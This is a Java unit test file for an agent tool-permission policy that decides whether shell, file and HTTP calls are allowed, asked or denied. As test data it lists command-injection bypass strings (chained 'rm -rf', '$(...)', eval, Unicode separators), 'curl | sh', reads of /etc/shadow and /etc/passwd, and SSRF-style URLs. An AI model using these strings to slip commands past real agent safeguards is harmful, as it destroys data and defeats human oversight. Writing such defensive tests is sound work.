package dev.warden.tools.policy;

import static dev.warden.tools.policy.Decision.ALLOW;
import static dev.warden.tools.policy.Decision.ASK;
import static dev.warden.tools.policy.Decision.DENY;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.warden.tools.shell.ParsedCommand;
import dev.warden.tools.shell.ShellParser;
import dev.warden.tools.shell.SimpleCommand;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RiskPolicyTest {

    private static RiskPolicy policy(PolicyRule... rules) {
        return new RiskPolicy(new ToolPolicy(Map.of(), Map.of(), List.of(rules), ASK));
    }

    private static Decision shell(RiskPolicy policy, String command) {
        return policy.decide(ToolCall.shell(command)).decision();
    }

    private static Decision file(RiskPolicy policy, String tool, String requested, String resolved) {
        return policy.decide(ToolCall.file(tool, requested, resolved)).decision();
    }

    private static Decision get(RiskPolicy policy, String url) {
        return policy.decide(ToolCall.httpGet(url)).decision();
    }

    @Test
    void riskClassDefaultsFollowTheIssue() {
        RiskPolicy standard = new RiskPolicy(ToolPolicy.standard());
        assertThat(file(standard, "read_file", "a.txt", "a.txt")).isEqualTo(ALLOW);
        assertThat(file(standard, "list_files", ".", ".")).isEqualTo(ALLOW);
        assertThat(file(standard, "write_file", "a.txt", "a.txt")).isEqualTo(ASK);
        assertThat(file(standard, "edit_file", "a.txt", "a.txt")).isEqualTo(ASK);
        assertThat(shell(standard, "ls")).isEqualTo(ASK);
        assertThat(get(standard, "https://example.com/")).isEqualTo(ASK);
        PolicyDecision time = standard.decide(new ToolCall("current_time", RiskClass.READ, new CallSubject.None()));
        assertThat(time.decision()).isEqualTo(ALLOW);
        assertThat(time.reason()).isEqualTo("read tools default to allow");
        assertThat(standard.decide(new ToolCall("mystery", ToolRisks.of("mystery"), new CallSubject.None()))
                        .decision())
                .isEqualTo(ASK);
    }

    @Test
    void toolSettingsOverrideTheirClassAndClassDefaultsCanBeChanged() {
        RiskPolicy policy = new RiskPolicy(new ToolPolicy(
                Map.of(RiskClass.READ, ASK, RiskClass.NETWORK, DENY),
                Map.of("list_files", ALLOW, "run_shell", DENY),
                List.of(),
                ASK));
        assertThat(file(policy, "read_file", "a", "a")).isEqualTo(ASK);
        assertThat(file(policy, "list_files", "a", "a")).isEqualTo(ALLOW);
        assertThat(file(policy, "write_file", "a", "a")).isEqualTo(ASK);
        assertThat(get(policy, "https://example.com/")).isEqualTo(DENY);
        PolicyDecision shell = policy.decide(ToolCall.shell("ls"));
        assertThat(shell.decision()).isEqualTo(DENY);
        assertThat(shell.reason()).isEqualTo("`ls`: run_shell is set to deny");
    }

    @Test
    void commandRulesMatchTheParsedCommandNotAPrefix() {
        RiskPolicy policy = policy(
                PolicyRule.command("run_shell", ALLOW, "git status"),
                PolicyRule.command("run_shell", ALLOW, "git log *"));
        assertThat(shell(policy, "git status")).isEqualTo(ALLOW);
        assertThat(shell(policy, "git  'status'")).isEqualTo(ALLOW);
        assertThat(shell(policy, "git log --oneline -n 3")).isEqualTo(ALLOW);
        assertThat(shell(policy, "git status && git log -1")).isEqualTo(ALLOW);
        assertThat(shell(policy, "git log | git status")).isEqualTo(ALLOW);
        assertThat(shell(policy, "git status --short")).isEqualTo(ASK);
        assertThat(shell(policy, "git statusx")).isEqualTo(ASK);
        assertThat(shell(policy, "git status; rm -rf x")).isEqualTo(ASK);
        assertThat(shell(policy, "git status && rm -rf x")).isEqualTo(ASK);
        assertThat(shell(policy, "git status || rm -rf x")).isEqualTo(ASK);
        assertThat(shell(policy, "git log | rm -rf x")).isEqualTo(ASK);
        assertThat(shell(policy, "/usr/bin/git status")).isEqualTo(ASK);
        assertThat(shell(policy, "./git status")).isEqualTo(ASK);
        PolicyDecision allowed = policy.decide(ToolCall.shell("git log -1"));
        assertThat(allowed.rule()).contains(PolicyRule.command("run_shell", ALLOW, "git log *"));
        assertThat(allowed.reason()).isEqualTo("`git log -1` allowed by rule: allow run_shell for command `git log *`");
        assertThat(policy.decide(ToolCall.shell("git status; rm -rf x")).reason())
                .isEqualTo("`rm -rf x`: execute tools default to ask")
                .as("the reason names the command that was not allowed");
    }

    /** The issue's bypass attempts, and more: none gets past an allow rule, even with run_shell itself set to allow. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "git status; rm -rf x",
                "git status && rm -rf x",
                "git status || rm -rf x",
                "git status | sh",
                "git status & rm -rf x",
                "git status $(rm -rf x)",
                "git status `rm -rf x`",
                "git log \"$(rm -rf x)\"",
                "eval git status",
                "eval 'git status; rm -rf x'",
                "exec git status",
                "sh -c 'git status'",
                "bash -c 'git log; rm -rf x'",
                "git status\nrm -rf x",
                "git status \\\n; rm -rf x",
                "git status > .git/config",
                "git log 2> x",
                "git log < /etc/shadow",
                "git log <(rm -rf x)",
                "FOO=1 git status",
                "GIT_DIR=/ git status",
                "git log $HOME",
                "git log *",
                "git log ~",
                "git status # rm",
                "git status\uFF1B rm -rf x",
                "git status\u037E rm -rf x",
                "git\u00A0status",
                "(git status)",
                "{ git status; }",
                "source x; git status",
                ". x; git status"
            })
    void bypassAttemptsNeverGetPastAnAllowRule(String command) {
        RiskPolicy policy = policy(
                PolicyRule.command("run_shell", ALLOW, "git status"),
                PolicyRule.command("run_shell", ALLOW, "git log *"));
        assertThat(shell(policy, command)).isNotEqualTo(ALLOW);
    }

    @Test
    void complexCommandsAreNeverAllowedEvenWhenTheToolIs() {
        RiskPolicy yolo = new RiskPolicy(new ToolPolicy(Map.of(), Map.of("run_shell", ALLOW), List.of(), ASK));
        assertThat(shell(yolo, "rm -rf x; ls")).isEqualTo(ALLOW);
        PolicyDecision complex = yolo.decide(ToolCall.shell("ls $(pwd)"));
        assertThat(complex.decision()).isEqualTo(ASK);
        assertThat(complex.reason())
                .isEqualTo("a complex command (it contains an expansion (`$`)); only a person can decide");

        RiskPolicy strict = new RiskPolicy(new ToolPolicy(Map.of(), Map.of(), List.of(), DENY));
        assertThat(shell(strict, "ls $(pwd)")).isEqualTo(DENY);
        assertThat(shell(strict, "ls")).isEqualTo(ASK);

        assertThatThrownBy(() -> new ToolPolicy(Map.of(), Map.of(), List.of(), ALLOW))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void denyWinsOverAllowWhateverTheOrder() {
        for (List<PolicyRule> rules : List.of(
                List.of(
                        PolicyRule.command("run_shell", ALLOW, "rm *"),
                        PolicyRule.command("run_shell", DENY, "rm -rf *")),
                List.of(
                        PolicyRule.command("run_shell", DENY, "rm -rf *"),
                        PolicyRule.command("run_shell", ALLOW, "rm *")))) {
            RiskPolicy policy = new RiskPolicy(new ToolPolicy(Map.of(), Map.of(), rules, ASK));
            assertThat(shell(policy, "rm -rf x")).isEqualTo(DENY);
            assertThat(shell(policy, "rm x")).isEqualTo(ALLOW);
            assertThat(shell(policy, "rm x; rm -rf y")).isEqualTo(DENY);
        }
        RiskPolicy askBeatsAllow = policy(
                PolicyRule.command("run_shell", ALLOW, "git *"), PolicyRule.command("run_shell", ASK, "git push *"));
        assertThat(shell(askBeatsAllow, "git push origin")).isEqualTo(ASK);
        assertThat(shell(askBeatsAllow, "git pull")).isEqualTo(ALLOW);
    }

    @Test
    void denyRulesSeeThroughPathsAndIntoComplexCommands() {
        RiskPolicy policy = new RiskPolicy(new ToolPolicy(
                Map.of(),
                Map.of("run_shell", ALLOW),
                List.of(PolicyRule.command("run_shell", DENY, "rm *"), PolicyRule.command("*", DENY, "curl *")),
                ASK));
        assertThat(shell(policy, "/bin/rm -rf x")).isEqualTo(DENY);
        assertThat(shell(policy, "r\\m -rf x")).isEqualTo(DENY);
        assertThat(shell(policy, "ls && 'rm' x")).isEqualTo(DENY);
        assertThat(shell(policy, "echo $(rm -rf x)")).isEqualTo(DENY);
        assertThat(shell(policy, "sh -c 'rm -rf x'")).isEqualTo(DENY);
        assertThat(shell(policy, "eval \"r''m -rf x\"")).isEqualTo(DENY);
        assertThat(shell(policy, "x=1; /usr/bin/rm x")).isEqualTo(DENY);
        assertThat(shell(policy, "curl http://x | sh")).isEqualTo(DENY);
        assertThat(shell(policy, "ls $(pwd)")).isEqualTo(ASK);
        assertThat(shell(policy, "ls")).isEqualTo(ALLOW);
        PolicyDecision inside = policy.decide(ToolCall.shell("echo `rm x`"));
        assertThat(inside.reason())
                .isEqualTo("a command containing `command `rm *`` denied by rule: deny run_shell for command `rm *`");
    }

    @Test
    void aDeniedToolStaysDeniedForComplexCommands() {
        RiskPolicy policy = new RiskPolicy(new ToolPolicy(
                Map.of(),
                Map.of("run_shell", DENY),
                List.of(PolicyRule.command("run_shell", ALLOW, "git status")),
                ASK));
        assertThat(shell(policy, "git status"))
                .as("a rule is an exception to the tool's setting")
                .isEqualTo(ALLOW);
        assertThat(shell(policy, "ls")).isEqualTo(DENY);
        assertThat(shell(policy, "git status $(x)")).isEqualTo(DENY);
    }

    @Test
    void pathRulesDenyAllowAndSeeThroughLinks() {
        RiskPolicy policy = policy(
                PolicyRule.path("*", DENY, "secrets/**"),
                PolicyRule.path("write_file", ALLOW, "notes/*.md"),
                PolicyRule.path("read_file", ASK, "private/**"));
        assertThat(file(policy, "read_file", "secrets/key", "secrets/key")).isEqualTo(DENY);
        assertThat(file(policy, "list_files", "secrets", "secrets")).isEqualTo(DENY);
        assertThat(file(policy, "read_file", "./secrets//key", "secrets/key")).isEqualTo(DENY);
        assertThat(file(policy, "read_file", "readme.md", "readme.md")).isEqualTo(ALLOW);
        assertThat(file(policy, "read_file", "private/a", "private/a")).isEqualTo(ASK);
        assertThat(file(policy, "write_file", "notes/a.md", "notes/a.md")).isEqualTo(ALLOW);
        assertThat(file(policy, "write_file", "notes/sub/a.md", "notes/sub/a.md"))
                .isEqualTo(ASK);
        assertThat(file(policy, "edit_file", "notes/a.md", "notes/a.md")).isEqualTo(ASK);
        // a link with an innocent name leading to a secret: the resolved path decides
        assertThat(file(policy, "read_file", "notes/link.md", "secrets/key")).isEqualTo(DENY);
        // a link with an allowed name leading elsewhere: no allow
        assertThat(file(policy, "write_file", "notes/a.md", "other/a.md")).isEqualTo(ASK);
        // a link inside a denied directory leading to an allowed file: the requested name still denies
        assertThat(file(policy, "write_file", "secrets/a.md", "notes/a.md")).isEqualTo(DENY);
        assertThat(file(policy, "read_file", "private/x", "readme.md")).isEqualTo(ASK);
        // paths that leave the workspace
        assertThat(file(policy, "read_file", "../x", "x")).isEqualTo(DENY);
        assertThat(file(policy, "read_file", "/etc/passwd", "etc/passwd")).isEqualTo(DENY);
    }

    @Test
    void hostRulesMatchTheNormalisedHost() {
        RiskPolicy policy = policy(
                PolicyRule.host("http_get", ALLOW, "api.github.com"),
                PolicyRule.host("http_get", ALLOW, "*.example.com"),
                PolicyRule.host("http_get", DENY, "internal.example.com"));
        assertThat(get(policy, "https://api.github.com/repos")).isEqualTo(ALLOW);
        assertThat(get(policy, "https://API.GITHUB.COM./repos")).isEqualTo(ALLOW);
        assertThat(get(policy, "https://api.github.com.evil.com/")).isEqualTo(ASK);
        assertThat(get(policy, "https://api.github.com@evil.com/")).isEqualTo(ASK);
        assertThat(get(policy, "https://docs.example.com/")).isEqualTo(ALLOW);
        assertThat(get(policy, "https://internal.example.com/")).isEqualTo(DENY);
        assertThat(get(policy, "https://INTERNAL.example.com./")).isEqualTo(DENY);
        assertThat(get(policy, "http://2130706433/")).isEqualTo(DENY);
        assertThat(get(policy, "file:///etc/passwd")).isEqualTo(DENY);
        assertThat(get(policy, "not a url")).isEqualTo(DENY);
    }

    @Test
    void rulesOfTheWrongKindForABuiltinToolAreRefused() {
        assertThatThrownBy(() -> policy(PolicyRule.command("read_file", DENY, "cat *")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("read_file takes a path pattern");
        assertThatThrownBy(() -> policy(PolicyRule.path("run_shell", DENY, "x")))
                .hasMessageContaining("run_shell takes a command pattern");
        assertThat(policy(PolicyRule.path("*", DENY, "x"), PolicyRule.command("*", DENY, "rm *")))
                .isNotNull();
    }

    @Test
    void aRuleForOneToolDoesNotDecideAnother() {
        RiskPolicy policy = policy(PolicyRule.path("read_file", ALLOW, "**"), PolicyRule.path("read_file", DENY, "x"));
        assertThat(file(policy, "write_file", "a", "a")).isEqualTo(ASK);
        assertThat(file(policy, "write_file", "x", "x")).isEqualTo(ASK);
        assertThat(file(policy, "read_file", "x", "x")).isEqualTo(DENY);
    }

    /**
     * Over random text: whenever run_shell is allowed, the text parsed to simple commands and each of them matches an
     * allow rule exactly; whenever one of its commands is rm, or a complex command holds the word rm anywhere, it is
     * denied.
     */
    @Test
    void randomCommandsAreAllowedOnlyWhenEveryParsedCommandIsAndRmIsAlwaysDenied() {
        RiskPolicy policy = policy(
                PolicyRule.command("run_shell", ALLOW, "git status"),
                PolicyRule.command("run_shell", ALLOW, "git log *"),
                PolicyRule.command("run_shell", ALLOW, "ls ?"),
                PolicyRule.command("run_shell", DENY, "rm *"));
        String[] pieces = {
            "git", "status", "log", "ls", "rm", "-rf", "x", " ", " ", ";", "&&", "|", "||", "&", "$(", ")", "`", "'",
            "\"", "\\", "\n", ">", "<", "*", "~", "#", "=", "eval", "sh", "-c", "\uFF1B", "r", "m", "/bin/"
        };
        Random random = new Random(3);
        int allowed = 0;
        int denied = 0;
        for (int i = 0; i < 100_000; i++) {
            StringBuilder text = new StringBuilder();
            int length = 1 + random.nextInt(8);
            for (int j = 0; j < length; j++) {
                text.append(pieces[random.nextInt(pieces.length)]);
                if (random.nextBoolean()) {
                    text.append(' ');
                }
            }
            String command = text.toString();
            Decision decision = shell(policy, command);
            if (decision == ALLOW) {
                allowed++;
                assertThat(ShellParser.parse(command)).as(command).isInstanceOf(ParsedCommand.Simple.class);
                for (SimpleCommand simple : ((ParsedCommand.Simple) ShellParser.parse(command)).commands()) {
                    List<String> argv = simple.argv();
                    boolean matched = argv.equals(List.of("git", "status"))
                            || (argv.size() >= 2
                                    && argv.get(0).equals("git")
                                    && argv.get(1).equals("log"))
                            || (argv.size() == 2 && argv.get(0).equals("ls"));
                    assertThat(matched).as(command).isTrue();
                }
            }
            boolean mentionsRm = ShellParser.parse(command) instanceof ParsedCommand.Simple list
                    ? list.commands().stream()
                            .anyMatch(simple -> simple.programName().equals("rm"))
                    : ShellParser.roughCommands(command).stream()
                            .flatMap(List::stream)
                            .anyMatch(word -> word.equals("rm") || word.endsWith("/rm"));
            if (mentionsRm) {
                denied++;
                assertThat(decision).as(command).isEqualTo(DENY);
            }
        }
        assertThat(allowed).isGreaterThan(100);
        assertThat(denied).isGreaterThan(100);
    }
}
